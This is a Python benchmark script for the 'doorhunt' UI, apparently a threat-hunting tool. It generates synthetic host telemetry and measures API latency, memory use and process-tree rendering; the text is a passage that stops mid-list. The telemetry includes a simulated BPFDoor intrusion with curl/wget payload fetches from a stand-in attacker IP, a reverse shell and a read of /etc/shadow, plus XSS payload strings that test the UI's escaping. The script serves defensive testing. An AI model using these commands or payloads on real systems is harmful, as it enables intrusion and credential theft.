"""`doorhunt ui` against its targets, each beside a baseline from the same run.

Over a store of EVENTS synthetic but realistic events (process trees with entity ids and
ancestry, logins, web traffic, file and network events, alerts, daily sweeps, a BPFDoor
incident, hostile strings, and one build job of 5,000 processes):

1. p50/p95 of every page's API calls through a real uvicorn on 127.0.0.1 (target p95 <= 200 ms);
   baseline: the same page questions asked the naive way, through the store's generic
   `events()`/`count()` calls and JSON extraction from `doc` instead of the UI's column queries.
2. The server's RSS after all calls (target <= 400 MB).
3. The analyzer rendering the 5,000-process tree in headless Chromium (target <= 2 s), beside
   the same tree laid out by cytoscape's own breadthfirst layout (the library default).

    .venv/bin/python bench/bench_ui.py                    # 5 M events
    .venv/bin/python bench/bench_ui.py --events 500000    # a quicker run
    .venv/bin/python bench/bench_ui.py --workdir /var/tmp/ui-bench   # keeps the store to reuse
    .venv/bin/python bench/bench_ui.py --workdir /var/tmp/ui-bench --part analyzer
"""

from __future__ import annotations

import argparse
import itertools
import os
import random
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import orjson

from doorhunt.bpf import examples, explain
from doorhunt.ecs import ECS_VERSION
from doorhunt.store import Store, StoreReader

START = datetime(2025, 5, 1, tzinfo=UTC)
SPAN = timedelta(days=7)
INCIDENT_HOST = "web-03"
INCIDENT_AT = START + timedelta(days=5, hours=3, minutes=12)
BUILD_HOST = "build-01"
BUILD_AT = START + timedelta(days=6, hours=9)
HOSTILE_HOST = "web-02"
ATTACKER = "198.51.100.77"

Document = dict[str, object]


def iso(moment_us: int) -> str:
    seconds, micros = divmod(moment_us, 1_000_000)
    return datetime.fromtimestamp(seconds, UTC).strftime("%Y-%m-%dT%H:%M:%S") + f".{micros:06d}Z"


@dataclass(slots=True)
class Proc:
    entity_id: str
    pid: int
    executable: str
    args: list[str]
    user: str
    uid: int
    start_us: int
    parent: Proc | None
    ancestry: list[str]
    fields: dict[str, object] = field(default_factory=dict)


class HostWorld:
    """One host's processes and the documents its sensor would write."""

    def __init__(self, name: str, index: int, rng: random.Random) -> None:
        self.name = name
        self.rng = rng
        self.host = {
            "name": name,
            "hostname": name,
            "id": f"{index:04x}".ljust(32, "a"),
            "ip": [f"10.0.{index // 250}.{index % 250 + 1}"],
            "os": {"type": "linux", "family": "debian", "name": "Debian GNU/Linux"},
        }
        self.ip = f"10.0.{index // 250}.{index % 250 + 1}"
        self.index = index
        self.next_pid = 300
        self.serial = itertools.count(1)
        start = int(START.timestamp() * 1_000_000) - 86_400_000_000
        self.systemd = self.spawn(None, "/usr/lib/systemd/systemd", ["/sbin/init"], start, pid=1)
        self.sshd = self.spawn(self.systemd, "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D"], start)
        self.cron = self.spawn(self.systemd, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], start)
        self.nginx = self.spawn(
            self.systemd, "/usr/sbin/nginx", ["nginx: master process /usr/sbin/nginx"], start
        )
        self.workers = [
            self.spawn(self.nginx, "/usr/sbin/nginx", ["nginx: worker process"], start, "www-data")
            for _ in range(2)
        ]

    def spawn(
        self,
        parent: Proc | None,
        executable: str,
        args: list[str],
        at_us: int,
        user: str = "root",
        pid: int | None = None,
    ) -> Proc:
        if pid is None:
            self.next_pid = self.next_pid + self.rng.randrange(1, 9)
            if self.next_pid > 4_000_000:
                self.next_pid = 300
            pid = self.next_pid
        entity = f"{self.index:03d}{next(self.serial):09d}".encode().hex()[:43]
        ancestry = [] if parent is None else [parent.entity_id, *parent.ancestry][:20]
        uid = 0 if user == "root" else 33 if user == "www-data" else 1000
        proc = Proc(entity, pid, executable, args, user, uid, at_us, parent, ancestry)
        fields: dict[str, object] = {
            "pid": pid,
            "entity_id": entity,
            "executable": executable,
            "name": executable.rsplit("/", 1)[-1],
            "args": args,
            "args_count": len(args),
            "command_line": " ".join(args),
            "start": iso(at_us),
            "user": {"id": str(uid), "name": user},
            "Ext": {"ancestry": ancestry},
        }
        if parent is not None:
            fields["parent"] = {
                "pid": parent.pid,
                "entity_id": parent.entity_id,
                "executable": parent.executable,
                "name": parent.executable.rsplit("/", 1)[-1],
            }
        proc.fields = fields
        return proc

    def event(
        self, at_us: int, category: str, kind: str, action: str, proc: Proc | None
    ) -> Document:
        document: Document = {
            "@timestamp": iso(at_us),
            "ecs": {"version": ECS_VERSION},
            "event": {
                "kind": "event",
                "category": [category],
                "type": [kind],
                "action": action,
                "dataset": f"doorhunt.{category}",
                "module": "doorhunt",
                "id": f"{self.index:03d}-{next(self.serial)}",
            },
            "host": self.host,
        }
        if proc is not None:
            document["process"] = proc.fields
            document["user"] = {"id": str(proc.uid), "name": proc.user}
        return document

    def run(
        self, parent: Proc, executable: str, args: list[str], at_us: int, user: str = ""
    ) -> tuple[Proc, list[Document]]:
        """fork + exec of a child; its end comes later (see `end`)."""
        proc = self.spawn(parent, executable, args, at_us, user or parent.user)
        return proc, [
            self.event(at_us, "process", "start", "fork", proc),
            self.event(at_us + 150, "process", "start", "exec", proc),
        ]

    def end(self, proc: Proc, at_us: int) -> Document:
        document = self.event(at_us, "process", "end", "end", proc)
        document["process"] = {**proc.fields, "end": iso(at_us), "exit_code": 0}
        return document

    def file(self, proc: Proc, at_us: int, action: str, path: str) -> Document:
        kind = {"creation": "creation", "deletion": "deletion"}.get(action, "change")
        document = self.event(at_us, "file", kind, action, proc)
        document["file"] = {"path": path, "name": path.rsplit("/", 1)[-1], "type": "file"}
        return document

    def connect(self, proc: Proc, at_us: int, ip: str, port: int) -> Document:
        document = self.event(at_us, "network", "start", "connection_attempted", proc)
        document["source"] = {"ip": self.ip, "port": self.rng.randrange(32768, 60999)}
        document["destination"] = {"ip": ip, "port": port}
        document["network"] = {"transport": "tcp", "type": "ipv4", "direction": "egress"}
        return document

    def accept(self, proc: Proc, at_us: int, ip: str, port: int) -> Document:
        document = self.event(at_us, "network", "start", "connection_accepted", proc)
        document["source"] = {"ip": ip, "port": self.rng.randrange(1024, 65535)}
        document["destination"] = {"ip": self.ip, "port": port}
        document["network"] = {"transport": "tcp", "type": "ipv4", "direction": "ingress"}
        return document

    def alert(
        self, source: Document, at_us: int, rule: str, severity: str, technique: str
    ) -> Document:
        risk = {"low": 21, "medium": 47, "high": 73, "critical": 99}[severity]
        document = {key: value for key, value in source.items() if key != "event"}
        process = source.get("process")
        entity_ids = []
        if isinstance(process, dict):
            entity_ids = [process.get("entity_id")]
            parent = process.get("parent")
            if isinstance(parent, dict) and parent.get("entity_id"):
                entity_ids.append(parent["entity_id"])
        source_event = source["event"]
        assert isinstance(source_event, dict)
        rule_id = f"00000000-0000-4000-8000-{abs(hash(rule)) % 10**12:012d}"
        document |= {
            "@timestamp": iso(at_us),
            "event": {
                "kind": "alert",
                "category": source_event["category"],
                "type": source_event["type"],
                "action": source_event["action"],
                "id": f"alert-{self.index:03d}-{next(self.serial)}",
                "dataset": "doorhunt.alerts",
                "module": "doorhunt",
                "risk_score": risk,
                "severity": ["low", "medium", "high", "critical"].index(severity) + 1,
            },
            "rule": {"id": rule_id, "uuid": rule_id, "name": rule, "ruleset": "doorhunt"},
            "threat": {
                "framework": "MITRE ATT&CK",
                "technique": {"id": [technique], "name": [technique]},
                "tactic": {"name": ["Execution"]},
            },
            "doorhunt": {
                "alert": {
                    "severity": severity,
                    "status": "open",
                    "source_event_ids": [source_event["id"]],
                    "entity_ids": entity_ids,
                }
            },
        }
        return document

    # -- activities ------------------------------------------------------------------------

    def cron_job(self, at: int) -> list[Document]:
        rng = self.rng
        job = rng.choice(["logrotate", "backup", "certbot", "apt-check", "metrics"])
        shell, docs = self.run(self.cron, "/usr/bin/dash", ["/bin/sh", "-c", f"run-{job}"], at)
        t = at + 2000
        for _ in range(rng.randrange(1, 4)):
            exe = rng.choice(
                ["/usr/sbin/logrotate", "/usr/bin/find", "/usr/bin/gzip", "/usr/bin/tar"]
            )
            child, more = self.run(shell, exe, [exe, "--quiet", f"/var/log/{job}"], t)
            docs += more
            docs.append(self.file(child, t + 500, "modification", f"/var/log/{job}.log"))
            if rng.random() < 0.5:
                docs.append(
                    self.file(child, t + 800, "creation", f"/tmp/{job}.{rng.randrange(10**6)}")
                )
            if rng.random() < 0.3:
                docs.append(self.connect(child, t + 900, f"192.0.2.{rng.randrange(1, 250)}", 443))
            t += rng.randrange(5_000, 400_000)
            docs.append(self.end(child, t))
        docs.append(self.end(shell, t + 1000))
        return docs

    def ssh_session(self, at: int) -> list[Document]:
        rng = self.rng
        user = rng.choice(["alice", "bob", "deploy", "carol"])
        client = f"203.0.113.{rng.randrange(1, 250)}"
        docs = [self.accept(self.sshd, at, client, 22)]
        priv, more = self.run(self.sshd, "/usr/sbin/sshd", [f"sshd: {user} [priv]"], at + 1000)
        docs += more
        docs.append(self.event(at + 2000, "process", "change", "uid_change", priv))
        shell, more = self.run(priv, "/usr/bin/bash", ["-bash"], at + 3000, user)
        docs += more
        docs.append(self.event(at + 3500, "process", "change", "session_id_change", shell))
        t = at + 5_000_000
        for _ in range(rng.randrange(2, 8)):
            command = rng.choice(
                [
                    ["/usr/bin/ls", "-la"],
                    ["/usr/bin/cat", "/etc/hosts"],
                    ["/usr/bin/vim", "/etc/nginx/nginx.conf"],
                    ["/usr/bin/curl", "-sS", "https://example.com/"],
                    ["/usr/bin/sudo", "systemctl", "restart", "nginx"],
                    ["/usr/bin/ps", "aux"],
                ]
            )
            child, more = self.run(shell, command[0], command, t)
            docs += more
            if command[0].endswith("curl"):
                docs.append(self.connect(child, t + 3000, "93.184.215.14", 443))
            if command[0].endswith("vim"):
                docs.append(self.file(child, t + 60_000_000, "modification", command[1]))
            if command[0].endswith("sudo"):
                docs.append(self.event(t + 2000, "process", "change", "uid_change", child))
            t += rng.randrange(1_000_000, 90_000_000)
            docs.append(self.end(child, t))
        docs.append(self.end(shell, t + 1_000_000))
        docs.append(self.end(priv, t + 1_100_000))
        return docs

    def web_traffic(self, at: int) -> list[Document]:
        rng = self.rng
        worker = rng.choice(self.workers)
        docs = []
        t = at
        for _ in range(rng.randrange(3, 12)):
            docs.append(
                self.accept(worker, t, f"198.18.{rng.randrange(256)}.{rng.randrange(1, 255)}", 443)
            )
            if rng.random() < 0.3:
                docs.append(self.connect(worker, t + 500, "127.0.0.1", 9000))
            t += rng.randrange(1000, 200_000)
        if rng.random() < 0.1:
            php, more = self.run(worker, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], t)
            docs += more
            docs.append(
                self.file(
                    php, t + 400, "creation", f"/var/lib/php/sessions/sess_{rng.randrange(10**9)}"
                )
            )
            docs.append(self.end(php, t + 90_000))
        return docs

    def daemon_work(self, at: int) -> list[Document]:
        rng = self.rng
        exe = rng.choice(
            ["/usr/sbin/rsyslogd", "/usr/lib/systemd/systemd-journald", "/usr/sbin/chronyd"]
        )
        proc, docs = self.run(self.systemd, exe, [exe, "-n"], at)
        docs.append(self.file(proc, at + 1000, "creation", f"/run/{exe.rsplit('/', 1)[-1]}.pid"))
        docs.append(self.file(proc, at + 2000, "modification", "/var/log/syslog"))
        if rng.random() < 0.2:
            docs.append(self.connect(proc, at + 3000, "192.0.2.123", 123))
        docs.append(self.end(proc, at + rng.randrange(10**6, 10**8)))
        return docs

    def activity(self, at: int) -> list[Document]:
        roll = self.rng.random()
        if roll < 0.25:
            docs = self.cron_job(at)
        elif roll < 0.40:
            docs = self.ssh_session(at)
        elif roll < 0.80:
            docs = self.web_traffic(at)
        else:
            docs = self.daemon_work(at)
        if self.rng.random() < 0.01:
            source = self.rng.choice(docs)
            if source.get("event", {}).get("kind") == "event":  # type: ignore[union-attr]
                rule, severity = self.rng.choice(
                    [
                        ("Interactive shell started by a web server", "high"),
                        ("Outbound connection from a system daemon", "medium"),
                        ("Process started from /tmp", "low"),
                        ("Sudo to root from an SSH session", "low"),
                    ]
                )
                docs.append(self.alert(source, at + 5000, rule, severity, "T1059"))
        return docs

    def sweep(self, at: int, verdict: str, findings: list[Document]) -> list[Document]:
        document: Document = {
            "@timestamp": iso(at),
            "ecs": {"version": ECS_VERSION},
            "event": {
                "kind": "event",
                "category": ["host"],
                "type": ["info"],
                "action": "sweep_completed",
                "module": "doorhunt",
                "dataset": "doorhunt.sweep",
            },
            "host": self.host,
            "doorhunt": {
                "sweep": {
                    "verdict": verdict,
                    "score": 100 if verdict == "compromised" else 0,
                    "complete": True,
                    "findings": len(findings),
                    "gaps": [],
                }
            },
        }
        return [*findings, document]


BPFDOOR = examples.EXAMPLES["bpfdoor-classic"]
BPFDOOR_FIELDS = explain(BPFDOOR.build(), BPFDOOR.link).ecs_bpf_fields()
DHCP = examples.EXAMPLES["dhcp-client"]
DHCP_FIELDS = explain(DHCP.build(), DHCP.link).ecs_bpf_fields()


def incident(world: HostWorld, at: int) -> list[Document]:
    """A BPFDoor infection and, two hours later, its reverse shell (BPFDOOR.md §1)."""
    docs: list[Document] = []
    docs.append(world.accept(world.sshd, at, ATTACKER, 22))
    priv, more = world.run(world.sshd, "/usr/sbin/sshd", ["sshd: deploy [priv]"], at + 1000)
    docs += more
    shell, more = world.run(priv, "/usr/bin/bash", ["-bash"], at + 2000, "deploy")
    docs += more
    sudo, more = world.run(shell, "/usr/bin/sudo", ["sudo", "-i"], at + 5_000_000, "deploy")
    docs += more
    docs.append(world.event(at + 5_100_000, "process", "change", "uid_change", sudo))
    root, more = world.run(sudo, "/usr/bin/bash", ["-bash"], at + 6_000_000, "root")
    docs += more
    curl, more = world.run(
        root,
        "/usr/bin/curl",
        ["curl", "-o", "/dev/shm/kdmtmpflush", f"http://{ATTACKER}/k"],
        at + 9_000_000,
    )
    docs += more
    docs.append(world.connect(curl, at + 9_100_000, ATTACKER, 80))
    docs.append(world.file(curl, at + 9_300_000, "creation", "/dev/shm/kdmtmpflush"))
    docs.append(world.end(curl, at + 9_400_000))
    implant, more = world.run(
        root, "/dev/shm/kdmtmpflush", ["/dev/shm/kdmtmpflush", "--init"], at + 12_000_000
    )
    docs += more
    exec_doc = more[1]
    stomp = world.file(implant, at + 12_100_000, "modification", "/dev/shm/kdmtmpflush")
    stomp["event"]["action"] = "timestomp"  # type: ignore[index]
    stomp["file"]["mtime"] = "2008-10-30T08:37:16.000Z"  # type: ignore[index]
    docs.append(stomp)
    daemon, more = world.run(
        implant, "/dev/shm/kdmtmpflush", ["/sbin/udevd", "-d"], at + 12_200_000
    )
    docs += more
    rename = world.event(at + 12_250_000, "process", "change", "name_change", daemon)
    rename["process"] = {**daemon.fields, "name": "udevd"}
    rename["doorhunt"] = {"process": {"previous_name": "kdmtmpflush"}}
    docs.append(rename)
    docs.append(world.end(implant, at + 12_300_000))
    docs.append(world.file(daemon, at + 12_400_000, "creation", "/var/run/haldrund.pid"))
    docs.append(world.file(daemon, at + 12_500_000, "deletion", "/dev/shm/kdmtmpflush"))
    opened = world.event(at + 12_600_000, "network", "info", "socket_opened", daemon)
    opened["doorhunt"] = {"socket": {"family": "packet", "type": "raw", "protocol": 2048, "fd": 3}}
    docs.append(opened)
    attached = world.event(at + 12_700_000, "network", "info", "filter_attached", daemon)
    attached["doorhunt"] = {
        "socket": {"family": "packet", "type": "raw", "protocol": 2048, "fd": 3, "inode": 913242},
        "bpf": BPFDOOR_FIELDS,
    }
    docs.append(attached)
    docs.append(
        world.alert(
            exec_doc, at + 12_000_500, "Executable run from shared memory", "critical", "T1059"
        )
    )
    docs.append(
        world.alert(
            stomp, at + 12_100_500, "File times set to BPFDoor's timestamp", "high", "T1070.006"
        )
    )
    docs.append(
        world.alert(
            attached, at + 12_700_500, "BPFDoor socket filter attached", "critical", "T1205.002"
        )
    )
    # The magic packet, two hours later: a child renames itself and connects back.
    later = at + 7_200_000_000
    child, more = world.run(daemon, "/dev/shm/kdmtmpflush", ["/usr/libexec/postfix/master"], later)
    docs += more
    reverse, more = world.run(
        child, "/usr/bin/bash", ["qmgr", "-l", "-t", "fifo", "-u"], later + 1000
    )
    docs += more
    connect = world.connect(reverse, later + 2000, ATTACKER, 443)
    docs.append(connect)
    docs.append(
        world.alert(
            connect, later + 2500, "Reverse shell from a renamed process", "critical", "T1059.004"
        )
    )
    t = later + 5_000_000
    for command in (
        ["id"],
        ["uname", "-a"],
        ["cat", "/etc/shadow"],
        ["wget", f"http://{ATTACKER}/s"],
    ):
        proc, more = world.run(reverse, f"/usr/bin/{command[0]}", command, t)
        docs += more
        docs.append(world.end(proc, t + 50_000))
        t += 3_000_000
    return docs


def sweep_findings(
    world: HostWorld, at: int, daemon_fields: dict[str, object] | None
) -> list[Document]:
    finding: Document = {
        "@timestamp": iso(at),
        "ecs": {"version": ECS_VERSION},
        "event": {
            "kind": "alert",
            "category": ["network"],
            "type": ["info"],
            "action": "sweep_finding",
            "module": "doorhunt",
            "dataset": "doorhunt.sweep",
            "severity": 100,
            "risk_score": 100.0,
        },
        "message": "BPFDoor socket filter on a packet socket",
        "rule": {
            "id": "socket_filter",
            "name": "BPFDoor socket filter on a packet socket",
            "category": "sweep",
        },
        "host": world.host,
        "doorhunt": {
            "finding": {
                "check": "socket_filter",
                "severity": "critical",
                "score": 100,
                "evidence": {
                    "inode": 913242,
                    "socket": "packet/raw",
                    "netns": 4026531840,
                    "protocol": "ETH_P_IP",
                },
            },
            "bpf": BPFDOOR_FIELDS,
            "socket": {"inode": 913242, "netns": 4026531840, "type": "packet/raw"},
        },
    }
    if daemon_fields:
        finding["process"] = daemon_fields
    dhcp: Document = {
        **finding,
        "message": "DHCP client filter",
        "event": {**finding["event"], "severity": 10, "risk_score": 10.0},  # type: ignore[dict-item]
        "rule": {
            "id": "socket_filter",
            "name": "Packet socket with a DHCP filter",
            "category": "sweep",
        },
        "doorhunt": {
            "finding": {
                "check": "socket_filter",
                "severity": "low",
                "score": 10,
                "evidence": {"inode": 11873, "socket": "packet/dgram", "interface": "eth0"},
            },
            "bpf": DHCP_FIELDS,
            "socket": {"inode": 11873, "type": "packet/dgram", "interface": "eth0"},
        },
        "process": {
            "pid": 611,
            "name": "dhclient",
            "executable": "/usr/sbin/dhclient",
            "entity_id": "dhclient-entity",
        },
    }
    return [finding, dhcp]


def hostile(world: HostWorld, at: int) -> list[Document]:
    """Values an attacker controls, written to run script if a page ever used them as HTML."""
    name = '<img src=x onerror="window.__pwned=1">'
    proc, docs = world.run(
        world.cron,
        "/tmp/<script>window.__pwned=1</script>",
        [name, "</td><script>window.__pwned=1</script>"],
        at,
    )
    docs.append(world.file(proc, at + 1000, "creation", '/tmp/"><svg onload=window.__pwned=1>'))
    docs.append(
        world.alert(
            docs[1], at + 2000, "<b onmouseover=window.__pwned=1>bold rule</b>", "medium", "T1059"
        )
    )
    docs.append(world.end(proc, at + 3000))
    return docs


def build_job(
    world: HostWorld, at: int, shells: int = 50, per_shell: int = 99
) -> tuple[Proc, list[Document]]:
    """`make -j` with `shells` sub-makes of `per_shell` compilers: 1 + shells * (1 + per_shell)."""
    make, docs = world.run(world.sshd, "/usr/bin/make", ["make", "-j8", "all"], at, "ci")
    t = at + 10_000
    for index in range(shells):
        shell, more = world.run(
            make, "/usr/bin/dash", ["/bin/sh", "-c", f"cd module{index} && make"], t
        )
        docs += more
        for unit in range(per_shell):
            cc, more = world.run(
                shell, "/usr/bin/cc", ["cc", "-c", f"src/m{index}/u{unit}.c"], t + 1000
            )
            docs += more
            docs.append(world.file(cc, t + 2000, "creation", f"/home/ci/build/m{index}/u{unit}.o"))
            t += 400
            docs.append(world.end(cc, t + 100_000))
        docs.append(world.end(shell, t + 200_000))
    docs.append(world.end(make, t + 1_000_000))
    return make, docs


@dataclass(slots=True)
class Scenario:
    """What the generator made that the benchmark asks about."""

    hosts: list[str]
    incident_entity: str = ""
    build_entity: str = ""
    hostile_entity: str = ""
    count: int = 0


def generate(count: int, scenario: Scenario, *, seed: int = 5) -> Iterator[Document]:
    """About `count` documents over 7 days and 20 hosts, in roughly the order they happen."""
    rng = random.Random(seed)
    names = [
        *(f"web-{n:02d}" for n in range(1, 9)),
        *(f"db-{n:02d}" for n in range(1, 5)),
        *(f"app-{n:02d}" for n in range(1, 7)),
        BUILD_HOST,
        "bastion-01",
    ]
    scenario.hosts = names
    worlds = {
        name: HostWorld(name, index, random.Random(seed + index))
        for index, name in enumerate(names)
    }
    span_us = int(SPAN.total_seconds() * 1_000_000)
    start_us = int(START.timestamp() * 1_000_000)
    average = 11.7  # documents an activity makes, measured on this generator
    activities = max(1, int((count - 21_000) / average))  # the build job makes about 21,000
    step = span_us / activities
    produced = 0
    for world in worlds.values():
        for doc in (world.systemd, world.sshd, world.cron, world.nginx, *world.workers):
            running = world.event(start_us, "process", "info", "already_running", doc)
            produced += 1
            yield running
    specials = sorted(
        [
            (int(INCIDENT_AT.timestamp() * 1_000_000), "incident"),
            (int(BUILD_AT.timestamp() * 1_000_000), "build"),
            (start_us + span_us // 3, "hostile"),
            *((start_us + day * 86_400_000_000 + 3_600_000_000 * 2, "sweep") for day in range(7)),
        ]
    )
    for number in range(activities):
        at = start_us + int(number * step)
        while specials and specials[0][0] <= at:
            moment, kind = specials.pop(0)
            docs = special(worlds, kind, moment, scenario)
            produced += len(docs)
            yield from docs
        world = worlds[names[rng.randrange(len(names))]]
        docs = world.activity(at)
        produced += len(docs)
        yield from docs
        if produced >= count:
            break
    for moment, kind in specials:
        yield from special(worlds, kind, moment, scenario)
    scenario.count = produced


def special(worlds: dict[str, HostWorld], kind: str, at: int, scenario: Scenario) -> list[Document]:
    if kind == "incident":
        world = worlds[INCIDENT_HOST]
        docs = incident(world, at)
        implant = next(d for d in docs if d["event"]["action"] == "filter_attached")  # type: ignore[index]
        scenario.incident_entity = implant["process"]["entity_id"]  # type: ignore[index]
        return docs
    if kind == "build":
        make, docs = build_job(worlds[BUILD_HOST], at)
        scenario.build_entity = make.entity_id
        return docs
    if kind == "hostile":
        docs = hostile(worlds[HOSTILE_HOST], at)
        scenario.hostile_entity = docs[0]["process"]["entity_id"]  # type: ignore[index]
        return docs
    docs = []
    for name, world in worlds.items():
        infected = name == INCIDENT_HOST and at > int(INCIDENT_AT.timestamp() * 1_000_000)
        findings = sweep_findings(world, at, None) if infected else []
        docs += world.sweep(at, "compromised" if infected else "clean", findings)
    return docs


def sweep_report(host: str, taken_at: datetime) -> dict[str, object]:
    """A `doorhunt sweep --json` result for the infected host (docs/sweep.md, "Output")."""
    implant = {
        "pid": 4242,
        "ppid": 1,
        "executable": "/dev/shm/kdmtmpflush (deleted)",
        "deleted": True,
        "name": "udevd",
        "comm": "udevd",
        "args": ["/sbin/udevd", "-d"],
        "uid": 0,
    }
    return {
        "host": {"name": host, "hostname": host},
        "taken_at": taken_at.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
        "verdict": "compromised",
        "score": 100,
        "visibility": {"complete": True, "gaps": [], "notes": []},
        "summary": {
            "processes": 212,
            "namespaces": 1,
            "packet_sockets": 2,
            "raw_sockets": 0,
            "seconds": 0.4,
        },
        "processes": [
            {
                "pid": 4242,
                "score": 100,
                "severity": "critical",
                "process": implant,
                "findings": ["socket_filter", "executable_provenance", "masquerade"],
            }
        ],
        "findings": [
            {
                "check": "socket_filter",
                "severity": "critical",
                "score": 100,
                "title": "BPFDoor socket filter on AF_PACKET/RAW",
                "process": implant,
                "threat": [],
                "evidence": {
                    "netns": 4026531840,
                    "inode": 913242,
                    "socket": "AF_PACKET/RAW",
                    "holders": [{"pid": 4242, "fd": 3}],
                    "protocol": "0x0800",
                    "ifindex": 0,
                    "interface": None,
                    "filter": BPFDOOR_FIELDS["bytecode"],
                    "class": "bpfdoor",
                },
            },
            {
                "check": "executable_provenance",
                "severity": "critical",
                "score": 85,
                "title": "Process runs from /dev/shm",
                "process": implant,
                "threat": [],
                "evidence": {"path": "/dev/shm/kdmtmpflush"},
            },
        ],
    }


def build_store(data: Path, count: int) -> Scenario:
    scenario = Scenario(hosts=[])
    store = Store(data / "store")
    started = time.perf_counter()
    with store.writer(compact_interval=None, wait_when_full=True) as writer:
        batch: list[Document] = []
        for document in generate(count, scenario):
            batch.append(document)
            if len(batch) >= 20_000:
                writer.extend(batch)
                batch = []
        writer.extend(batch)
    written = time.perf_counter() - started
    started = time.perf_counter()
    result = store.compact(wait=0)
    info = store.info()
    print(
        f"  {info.events:,} events written in {written:.0f} s; compaction {result.merged} -> "
        f"{result.written} segments in {time.perf_counter() - started:.0f} s; "
        f"{info.segments} segments, {info.bytes / 1e6:.0f} MB"
    )
    taken = START + timedelta(days=6, hours=2)
    sweeps = data / "sweeps"
    sweeps.mkdir(parents=True, exist_ok=True)
    (sweeps / f"{taken:%Y%m%dT%H%M%SZ}-{INCIDENT_HOST}.json").write_bytes(
        orjson.dumps(sweep_report(INCIDENT_HOST, taken))
    )
    (data / "scenario.json").write_bytes(
        orjson.dumps(
            {
                "hosts": scenario.hosts,
                "incident_entity": scenario.incident_entity,
                "build_entity": scenario.build_entity,
                "hostile_entity": scenario.hostile_entity,
                "count": scenario.count,
            }
        )
    )
    return scenario


# -- the benchmark ------------------------------------------------------------------------------


def percentile(values: list[float], fraction: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(fraction * (len(ordered) - 1)))]


class Server:
    """`doorhunt ui` in its own process (so that its memory is its own), on a free port."""

    def __init__(self, data: Path) -> None:
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            self.port = probe.getsockname()[1]
        self.base = f"http://127.0.0.1:{self.port}"
        self.process = subprocess.Popen(
            [
                sys.executable,
                "-c",
                "import sys; from doorhunt.cli import ui; sys.exit(ui.main(sys.argv[1:]))",
                "--data",
                str(data),
                "--port",
                str(self.port),
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            start_new_session=True,
        )
        self.client = httpx.Client(base_url=self.base, timeout=600)

    def wait_ready(self) -> float:
        started = time.perf_counter()
        while True:
            try:
                info = self.client.get("/api/info").json()  # waits for the first index refresh
                if info["index"]["ready"]:
                    return time.perf_counter() - started
            except httpx.TransportError:
                pass
            assert self.process.poll() is None, (
                self.process.stderr.read() if self.process.stderr else ""
            )
            time.sleep(0.2)

    def get(self, path: str, params: dict[str, object]) -> tuple[float, dict[str, object]]:
        started = time.perf_counter()
        response = self.client.get(path, params=params)  # type: ignore[arg-type]
        elapsed = (time.perf_counter() - started) * 1000
        assert response.status_code == 200, (path, params, response.text[:300])
        return elapsed, response.json()

    def memory(self) -> tuple[int, int]:
        """(resident now, peak) in MiB."""
        values = {}
        for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
            key, _, value = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                values[key] = int(value.split()[0]) // 1024
        return values["VmRSS"], values["VmHWM"]

    def stop(self) -> None:
        self.client.close()
        if self.process.poll() is None:
            os.kill(self.process.pid, signal.SIGTERM)
            self.process.wait(timeout=60)


def page_calls(
    scenario: dict[str, object], last: datetime
) -> list[tuple[str, str, str, Callable[[random.Random], dict[str, object]]]]:
    """(page, call, path, parameters) for what each page asks when it opens or is used."""
    hosts = list(scenario["hosts"])  # type: ignore[call-overload]

    def day(rng: random.Random, hours: int = 24) -> dict[str, object]:
        end = last - timedelta(hours=rng.uniform(0, 24 * 5))
        return {
            "since": iso(int((end - timedelta(hours=hours)).timestamp() * 1e6)),
            "until": iso(int(end.timestamp() * 1e6)),
        }

    incident, build = scenario["incident_entity"], scenario["build_entity"]
    return [
        ("overview", "info", "/api/info", lambda r: {}),
        ("overview", "messages", "/api/messages", lambda r: {}),
        ("overview", "overview", "/api/overview", lambda r: {}),
        ("alerts", "open, newest 500", "/api/alerts", lambda r: {"status": "open", "limit": 500}),
        ("alerts", "grouped by rule", "/api/alerts", lambda r: {"group": "rule"}),
        (
            "alerts",
            "one host, critical",
            "/api/alerts",
            lambda r: {"host": r.choice(hosts), "severity": "critical"},
        ),
        ("hosts", "host list", "/api/hosts", lambda r: {}),
        ("hosts", "host page (last day)", "/api/hosts/" + INCIDENT_HOST, lambda r: {}),
        ("hosts", "host page, other day", "/api/hosts/" + INCIDENT_HOST, day),
        ("network", "all hosts, last day", "/api/network", lambda r: {}),
        (
            "network",
            "one host, a day",
            "/api/network",
            lambda r: {"host": r.choice(hosts), **day(r)},
        ),
        ("users", "all hosts, last day", "/api/users", lambda r: {}),
        ("users", "one host, a day", "/api/users", lambda r: {"host": r.choice(hosts), **day(r)}),
        ("timeline", "opened: all events, 7 days", "/api/timeline", lambda r: {}),
        ("timeline", "all hosts, a day", "/api/timeline", day),
        (
            "timeline",
            "one host, a day",
            "/api/timeline",
            lambda r: {"host": r.choice(hosts), **day(r)},
        ),
        (
            "timeline",
            "categories, a day",
            "/api/timeline",
            lambda r: {"category": ["network", "file"], **day(r)},
        ),
        (
            "timeline",
            "field:value, a day",
            "/api/timeline",
            lambda r: {"q": "process.name:curl -user.name:root", **day(r)},
        ),
        ("timeline", "free text, a day", "/api/timeline", lambda r: {"q": "kdmtmpflush", **day(r)}),
        (
            "timeline",
            "EQL, one host, a day",
            "/api/timeline",
            lambda r: {
                "q": 'process where process.name == "curl"',
                "host": r.choice(hosts),
                **day(r),
            },
        ),
        (
            "timeline",
            "sorted by process.name, one host",
            "/api/timeline",
            lambda r: {"sort": "process.name", "order": "asc", "host": r.choice(hosts), **day(r)},
        ),
        ("timeline", "page 5", "/api/timeline", lambda r: {"offset": 400, **day(r)}),
        ("timeline", "pins", "/api/pins", lambda r: {}),
        (
            "analyzer",
            "incident tree (14)",
            "/api/tree",
            lambda r: {"entity": incident, "host": INCIDENT_HOST},
        ),
        (
            "analyzer",
            "build tree (5,003)",
            "/api/tree",
            lambda r: {"entity": build, "host": BUILD_HOST},
        ),
        (
            "analyzer",
